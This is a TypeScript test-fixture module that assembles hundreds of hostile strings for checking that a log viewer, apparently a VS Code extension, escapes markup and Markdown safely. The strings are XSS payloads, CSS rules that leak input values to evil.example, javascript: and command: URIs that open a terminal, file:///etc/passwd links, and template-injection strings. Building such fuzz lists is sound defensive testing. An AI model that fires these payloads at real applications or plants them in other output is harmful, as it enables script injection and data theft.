// Texts that somebody puts into a log, a file name or a piece of code in the hope that they are taken for markup, a link, a command or an
// order to the terminal. Written out as families: each way out of a place, times each thing that is wanted there.
import naughty from "../fixtures/naughty-strings/blns.json" with { type: "json" };

/** The Big List of Naughty Strings without the empty one. */
export const naughtyTexts: readonly string[] = naughty.filter((text) => text !== "");

/** Each of the first before each of the second. */
function crossed(ways: readonly string[], aims: readonly string[]): readonly string[] {
  return ways.flatMap((way) => aims.map((aim) => way + aim));
}

// Out of a text, an attribute in either quotes or none, a comment, and the elements whose content is no markup.
const waysOut = [
  "",
  '">',
  "'>",
  "-->",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "]]>",
  "</svg>",
  "</option></select>",
];

const elements = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img/src=`x`/onerror=alert`1`>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=dns-prefetch href=//secret.evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><input name=a autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<a href='command:workbench.action.terminal.new'>x</a>",
];

const attributes = crossed(
  ['" ', "' ", "` ", " "],
  [
    "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1)//",
    "style=position:fixed;inset:0 x=",
    "class=row data-fold=",
  ],
);

const styles = crossed(
  ["", ";", "}", "*/"],
  [
    "background:url(//evil.example/?leak)",
    "@import '//evil.example/x.css';",
    "body{display:none}",
    "input[value^=a]{background:url(//evil.example/a)}",
    "width:expression(alert(1))",
  ],
);

const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "command:workbench.action.terminal.new",
  "vscode://file/etc/passwd",
  "file:///etc/passwd",
  "vscode-resource:/etc/passwd",
  "https://evil.example/?q=%3Cscript%3E",
  "//evil.example",
  "\\\\evil.example\\share",
];

const entities = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&amp;lt;b&amp;gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= 7 * 7 %>",
  "constructor",
  "__proto__",
  "toString",
];

/** More than 200 texts that want to be markup, a style or an address. */
export const markupTexts: readonly string[] = [
  ...crossed(waysOut, elements),
  ...attributes,
  ...styles,
  ...addresses,
  ...entities,
];

const links = [
  "[run](command:workbench.action.terminal.new)",
  "[run](<command:workbench.action.terminal.new>)",
  "[run](command:seclog.openLogLine?%5B%22file:///etc/passwd%22%5D)",
  "[see](https://evil.example)",
  "[see]( javascript:alert\\(1\\) 'x')",
  "[see][r]\n\n[r]: https://evil.example",
  "![x](https://evil.example/pixel.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "<https://evil.example>",
  "<command:workbench.action.quit>",
  "https://evil.example",
  "www.evil.example",
  "mail@evil.example",
  "<a href='command:workbench.action.quit'>x</a>",
  "<img src=https://evil.example>",
  "$(alert) $(sync~spin)",
  "**bold** _soft_ ~~gone~~ `code`",
  "| a | b |\n| - | - |\n| <b>x</b> | [y](https://evil.example) |",
  "# heading\n\n---\n\n> quote\n\n- item\n\n1. item",
  "```html\n<script>alert(1)</script>\n```",
];

// Out of the places in which a text stands: a span of code, emphasis, a link's text, an escaped character, a line of its own.
const markdownWaysOut = ["", "`", "``` \n", "**", "](x) ", "\\", "\n\n", "\r", "&#10;"];

/** More than 100 texts that want to be a link, an image, a heading or HTML of a Markdown text. */
export const markdownTexts: readonly string[] = crossed(markdownWaysOut, links);

/** All of them, each once. */
export const hostileTexts: readonly string[] = [...new Set([...naughtyTexts, ...markupTexts, ...markdownTexts])];
